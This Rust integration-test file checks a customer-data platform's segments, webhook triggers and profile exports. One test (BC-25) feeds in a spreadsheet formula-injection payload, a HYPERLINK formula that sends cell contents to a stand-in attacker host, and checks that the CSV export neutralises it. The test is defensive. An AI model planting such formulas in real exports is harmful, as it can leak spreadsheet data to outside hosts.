    assert!(
        (0..1_000).contains(&off),
        "step 1: {off} ms from NOW-57d: {e1}"
    );
    assert_eq!(ts(&e2["timestamp"]), ts(&e2["received_at"]), "step 2: {e2}");
    let t2 = ts(&e2["timestamp"]);
    assert!(t2 >= now && t2 <= after, "step 2: timestamp {t2}: {e2}");
}

// ---------------------------------------------------------------------------------------------
// BC-21 segments: time-window members never leave as events age out
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn bc_21_time_window_members_leave_as_events_age_out() {
    let s = Server::manual().await;
    let hook = Receiver::start().await;
    create_segment(
        &s,
        1,
        json!({"id": "repeat_buyers_7d", "name": "Repeat buyers, last 7 days", "rule": {"event": "Order Completed", "count": {"gte": 2}, "within": {"days": 7}}}),
    )
    .await;
    let body = json!({"id": "bc21-hook", "segment": "repeat_buyers_7d", "on": ["enter", "exit"], "url": hook.url()});
    let (st, v) = s.admin("POST", "/v1/triggers", Some(&body)).await;
    assert_eq!(st, 201, "step 2: {v}");

    let now3 = server_now(&s).await;
    ingest_ok(
        &s,
        3,
        "/v1/track",
        json!({"userId": "user-sam", "event": "Order Completed", "timestamp": rfc(now3 - ms(6 * DAY_MS)), "messageId": "bc21-1"}),
    )
    .await;
    let m = members(&s, 3, "repeat_buyers_7d").await;
    assert!(m.is_empty(), "after step 3 (one order): {m:?}");
    let now4 = server_now(&s).await;
    ingest_ok(
        &s,
        4,
        "/v1/track",
        json!({"userId": "user-sam", "event": "Order Completed", "timestamp": rfc(now4 - ms(5 * DAY_MS)), "messageId": "bc21-2"}),
    )
    .await;
    // With no sentAt the timestamps are stored as sent.
    let ev = tracks(&s, 4, "user_id:user-sam").await;
    assert_eq!(mids(&ev), vec!["bc21-2", "bc21-1"], "{ev:?}");
    assert_eq!(ts(&ev[0]["timestamp"]), now4 - ms(5 * DAY_MS));
    assert_eq!(ts(&ev[1]["timestamp"]), now3 - ms(6 * DAY_MS));

    assert_only_member(5, &members(&s, 5, "repeat_buyers_7d").await, "user-sam");
    let sam = pid(&profile(&s, 5, "user_id:user-sam").await);
    let hits = hook.expect(1).await;
    check_delivery(&hits[0], "segment.entered", "repeat_buyers_7d", &sam);

    s.advance(2 * DAY_MS).await; // step 6
    let hits = hook.expect(2).await;
    let exit = check_delivery(&hits[1], "segment.exited", "repeat_buyers_7d", &sam);
    assert_eq!(exit["reason"], "window", "{exit}");
    let leave = now3 + ms(DAY_MS);
    let off = ms_between(ts(&exit["occurred_at"]), leave).abs();
    assert!(off <= 1_000, "step 6: exit {off} ms from NOW+1d: {exit}");

    let m = members(&s, 7, "repeat_buyers_7d").await;
    assert!(m.is_empty(), "step 7: {m:?}");
    let (st, seg) = s.get("/v1/segments/repeat_buyers_7d").await;
    assert_eq!(st, 200, "step 8: {seg}");
    assert_eq!(seg["count"], json!(0), "step 8: {seg}");
    let (st, v) = s
        .get("/v1/triggers/bc21-hook/deliveries?status=delivered")
        .await;
    assert_eq!(st, 200, "step 9: {v}");
    let d = v["deliveries"].as_array().unwrap();
    assert_eq!(d.len(), 2, "step 9: {v}");
    let got: BTreeSet<(String, String)> = d
        .iter()
        .map(|d| {
            (
                d["id"].as_str().unwrap().to_owned(),
                d["type"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let sent: BTreeSet<(String, String)> = hits
        .iter()
        .map(|h| {
            let b = h.json();
            (
                b["id"].as_str().unwrap().to_owned(),
                b["type"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(got, sent, "step 9: {v}");
}

// ---------------------------------------------------------------------------------------------
// BC-22 triggers: audience sync only adds, never removes
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn bc_22_audience_sync_removes_as_well_as_adds() {
    let s = Server::start().await;
    let hook = Receiver::start().await;
    create_segment(
        &s,
        1,
        json!({"id": "pro_users", "name": "Pro users", "rule": {"trait": "plan", "op": "eq", "value": "pro"}}),
    )
    .await;
    let body = json!({"id": "bc22-hook", "segment": "pro_users", "on": ["enter", "exit"], "url": hook.url()});
    let (st, v) = s.admin("POST", "/v1/triggers", Some(&body)).await;
    assert_eq!(st, 201, "step 2: {v}");
    for (step, plan) in [
        (3, json!("pro")),
        (4, json!("free")),
        (5, json!("pro")),
        (6, Value::Null),
        (7, json!("pro")),
        (8, json!("pro")),
    ] {
        ingest_ok(
            &s,
            step,
            "/v1/identify",
            json!({"userId": "user-tia", "traits": {"plan": plan}}),
        )
        .await;
    }
    assert_only_member(9, &members(&s, 9, "pro_users").await, "user-tia");
    let tia = pid(&profile(&s, 9, "user_id:user-tia").await);

    hook.expect(5).await;
    let deadline = Instant::now() + Duration::from_secs(5);
    let delivered = loop {
        let (st, v) = s
            .get("/v1/triggers/bc22-hook/deliveries?status=delivered")
            .await;
        assert_eq!(st, 200, "step 10: {v}");
        let d = v["deliveries"].as_array().unwrap().clone();
        if d.len() >= 5 || Instant::now() > deadline {
            break d;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert_eq!(delivered.len(), 5, "step 10: {delivered:?}");

    let (st, _, body) = raw_request(
        &s,
        "DELETE",
        "/v1/profiles/user_id:user-tia",
        None,
        &[],
        Auth::Admin,
    )
    .await;
    assert!(
        (200..300).contains(&st),
        "step 11: {st} {}",
        String::from_utf8_lossy(&body)
    );
    let (st, v) = s.get("/v1/profiles/user_id:user-tia").await;
    assert_eq!(st, 404, "step 12: {v}");

    let hits = hook.expect(6).await;
    let kinds = [
        "segment.entered",
        "segment.exited",
        "segment.entered",
        "segment.exited",
        "segment.entered",
        "segment.exited",
    ];
    let mut seen = BTreeSet::new();
    for (hit, kind) in hits.iter().zip(kinds) {
        let b = check_delivery(hit, kind, "pro_users", &tia);
        assert!(
            seen.insert(b["id"].as_str().unwrap().to_owned()),
            "delivery id repeated: {b}"
        );
    }
    assert_eq!(hits[5].json()["reason"], "deleted", "the erasure's exit");
}

// ---------------------------------------------------------------------------------------------
// BC-24 export: exporting the whole user base times out
// ---------------------------------------------------------------------------------------------

const BC24_USERS: usize = 200_000;

#[tokio::test]
async fn bc_24_export_of_the_whole_user_base_streams() {
    let s = Server::start().await;
    for b in 0..BC24_USERS / 500 {
        let batch: Vec<Value> = (b * 500 + 1..=b * 500 + 500)
            .map(|n| {
                json!({"type": "identify", "userId": format!("user-{n:06}"),
                       "traits": {"email": format!("user{n:06}@example.com"), "plan": "free"}})
            })
            .collect();
        let v = ingest_ok(&s, 1, "/v1/batch", json!({"batch": batch})).await;
        assert_eq!(v["accepted"], json!(500), "step 1, batch {b}: {v}");
        assert_eq!(v["rejected"], json!([]), "step 1, batch {b}: {v}");
    }
    let seg = create_segment(
        &s,
        2,
        json!({"id": "has_email", "name": "Has an email", "rule": {"identity": "email", "op": "exists"}}),
    )
    .await;
    assert_eq!(seg["count"], json!(BC24_USERS), "step 2: {seg}");
    let pid_ = server_pid(&s);

    // Step 3: CSV, streamed.
    let rss_before = pid_.and_then(|p| proc_kib(p, "VmRSS"));
    let mut r = s
        .http
        .get(format!(
            "{}/v1/export/profiles?format=csv&fields=id,user_id,email,traits.plan",
            s.url
        ))
        .bearer_auth(&s.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200, "step 3");
    assert!(
        r.headers().get("content-length").is_none(),
        "step 3: the export is not streamed (Content-Length set)"
    );
    let mut csv = Vec::new();
    let mut rss_peak = 0;
    while let Some(chunk) = tokio::time::timeout(Duration::from_secs(60), r.chunk())
        .await
        .expect("step 3: export stalled")
        .expect("step 3: export cut")
    {
        csv.extend_from_slice(&chunk);
        if let Some(kib) = pid_.and_then(|p| proc_kib(p, "VmRSS")) {
            rss_peak = rss_peak.max(kib);
        }
    }
    if let Some(before) = rss_before {
        let growth = rss_peak.saturating_sub(before) * 1024;
        assert!(
            (growth as usize) < csv.len() / 2,
            "step 3: server memory grew {growth} bytes for a {} byte export",
            csv.len()
        );
    }
    let records = csv_values(&parse_csv(&String::from_utf8(csv).unwrap()));
    assert_eq!(records.len(), BC24_USERS + 1, "step 3");
    assert_eq!(
        records[0],
        vec!["id", "user_id", "email", "traits.plan"],
        "step 3"
    );
    let mut users = BTreeSet::new();
    for row in &records[1..] {
        assert_eq!(row.len(), 4, "step 3: {row:?}");
        assert!(!row[0].is_empty(), "step 3: {row:?}");
        let n = row[1]
            .strip_prefix("user-")
            .unwrap_or_else(|| panic!("step 3: {row:?}"));
        assert_eq!(row[2], format!("user{n}@example.com"), "step 3: {row:?}");
        assert_eq!(row[3], "free", "step 3: {row:?}");
        assert!(users.insert(row[1].clone()), "step 3: {} twice", row[1]);
    }
    assert_eq!(users.len(), BC24_USERS, "step 3");

    // Step 4: JSONL of the segment, with step 5 sent while it streams.
    let mut r = s
        .http
        .get(format!(
            "{}/v1/export/profiles?format=jsonl&segment=has_email",
            s.url
        ))
        .bearer_auth(&s.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200, "step 4");
    assert!(
        r.headers().get("content-length").is_none(),
        "step 4: the export is not streamed (Content-Length set)"
    );
    let mut body = r
        .chunk()
        .await
        .unwrap()
        .expect("step 4: empty export")
        .to_vec();
    ingest_ok(
        &s,
        5,
        "/v1/track",
        json!({"userId": "user-000002", "event": "During Export", "messageId": "bc24-1"}),
    )
    .await;
    let mut chunks_after = 0;
    while let Some(chunk) = tokio::time::timeout(Duration::from_secs(60), r.chunk())
        .await
        .expect("step 4: export stalled")
        .expect("step 4: export cut")
    {
        body.extend_from_slice(&chunk);
        chunks_after += 1;
    }
    assert!(
        chunks_after > 0,
        "step 5 was answered only after the export had finished"
    );
    let lines = jsonl(4, &String::from_utf8(body).unwrap());
    assert_eq!(lines.len(), BC24_USERS, "step 4");
    let distinct: BTreeSet<String> = lines.iter().map(pid).collect();
    assert_eq!(distinct.len(), BC24_USERS, "step 4: a profile twice");
    let ev = events(&s, 5, "user_id:user-000002", "name=During%20Export").await;
    assert_eq!(mids(&ev), vec!["bc24-1"], "step 5: {ev:?}");
}

// ---------------------------------------------------------------------------------------------
// BC-25 export: CSV export open to formula injection
// ---------------------------------------------------------------------------------------------

async fn bc25() {
    let s = Server::start().await;
    let traits = json!({
        "name": "=HYPERLINK(\"http://attacker.invalid/?d=\"&A1,\"click\")",
        "company": "+1+1",
        "note": "@SUM(1,1)",
        "city": "-2+3",
        "bio": "\tTabbed",
        "title": "\rCR start",
        "plain": "ok, \"quoted\"\nsecond line",
        "balance": -5
    });
    ingest_ok(
        &s,
        1,
        "/v1/identify",
        json!({"userId": "user-vic", "traits": traits.clone()}),
    )
    .await;
    let text = get_text(
        &s,
        2,
        "/v1/export/profiles?format=csv&fields=user_id,traits.name,traits.company,traits.note,traits.city,traits.bio,traits.title,traits.plain,traits.balance",
    )
    .await;
    let records = parse_csv(&text);
    assert_eq!(
        csv_values(&records),
        vec![
            vec![
                "user_id",
                "traits.name",
                "traits.company",
                "traits.note",
                "traits.city",
                "traits.bio",
                "traits.title",
                "traits.plain",
                "traits.balance"
            ],
            vec![
                "user-vic",
                "'=HYPERLINK(\"http://attacker.invalid/?d=\"&A1,\"click\")",
                "'+1+1",
                "'@SUM(1,1)",
                "'-2+3",
                "'\tTabbed",
                "'\rCR start",
                "ok, \"quoted\"\nsecond line",
                "-5"
            ],
        ],
        "step 2: {text:?}"
    );
    for record in &records {
        for (value, quoted) in record {
            if value.contains([',', '"', '\r', '\n']) {
                assert!(quoted, "step 2: cell {value:?} must be quoted: {text:?}");
            }
        }
    }
    let lines = export_jsonl(&s, 3, "/v1/export/profiles?format=jsonl").await;
    assert_eq!(lines.len(), 1, "step 3: {lines:?}");
    assert_eq!(lines[0]["traits"], traits, "step 3");
}

#[tokio::test]
async fn bc_25_csv_export_neutralises_formulas() {
    bc25().await;
}
